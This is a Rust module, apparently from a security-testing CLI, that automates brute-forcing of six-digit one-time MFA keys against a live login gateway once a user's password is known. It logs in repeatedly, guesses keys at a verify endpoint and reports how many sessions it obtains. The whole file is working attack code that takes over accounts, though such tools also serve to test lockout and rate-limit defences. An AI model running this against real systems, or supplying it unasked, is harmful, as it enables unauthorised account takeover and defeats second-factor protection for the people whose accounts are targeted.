//! Credential stuffing against a live gateway: the password is known, the
//! one-time key is guessed.

use std::fmt;
use std::time::Duration;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use reqwest::blocking::Client;
use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::error::CliError;

#[derive(Debug, Clone)]
pub struct Plan {
    pub target: String,
    pub username: String,
    pub password: String,
    pub logins: usize,
    pub guesses_per_login: u32,
    pub seed: u64,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Report {
    pub logins: usize,
    pub rejected_logins: usize,
    pub locked_logins: usize,
    pub guesses: usize,
    pub sessions_obtained: usize,
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "logins: {}", self.logins)?;
        writeln!(f, "rejected_logins: {}", self.rejected_logins)?;
        writeln!(f, "locked_logins: {}", self.locked_logins)?;
        writeln!(f, "guesses: {}", self.guesses)?;
        writeln!(f, "sessions_obtained: {}", self.sessions_obtained)
    }
}

fn post(client: &Client, url: &str, body: Value) -> Result<(StatusCode, Value), CliError> {
    let res = client
        .post(url)
        .json(&body)
        .send()
        .map_err(|e| CliError::Unreachable(format!("{url}: {e}")))?;
    let status = res.status();
    Ok((status, res.json().unwrap_or(Value::Null)))
}

pub fn run(plan: &Plan) -> Result<Report, CliError> {
    let base = plan.target.trim_end_matches('/');
    if !base.starts_with("http://") && !base.starts_with("https://") {
        return Err(CliError::Usage(format!("credstuff target must be an http(s) URL, got {base:?}")));
    }
    let client = Client::builder()
        .timeout(Duration::from_secs(30))
        .build()
        .map_err(|e| CliError::Environment(e.to_string()))?;
    let login_url = format!("{base}/auth/login");
    let verify_url = format!("{base}/auth/verify");
    let mut rng = ChaCha8Rng::seed_from_u64(plan.seed);
    let mut report = Report::default();

    for _ in 0..plan.logins {
        report.logins += 1;
        let (status, body) = post(
            &client,
            &login_url,
            json!({"username": plan.username, "password": plan.password}),
        )?;
        let login_id = match status {
            StatusCode::OK => body["login_id"].as_str().unwrap_or_default().to_string(),
            StatusCode::LOCKED => {
                report.locked_logins += 1;
                continue;
            }
            _ => {
                report.rejected_logins += 1;
                continue;
            }
        };
        for _ in 0..plan.guesses_per_login {
            let key = format!("{:06}", rng.gen_range(0..1_000_000u32));
            report.guesses += 1;
            let (status, body) = post(&client, &verify_url, json!({"login_id": login_id, "key": key}))?;
            if status == StatusCode::OK {
                report.sessions_obtained += 1;
                break;
            }
            if body["error"] != "key_mismatch" {
                break;
            }
        }
    }
    Ok(report)
}
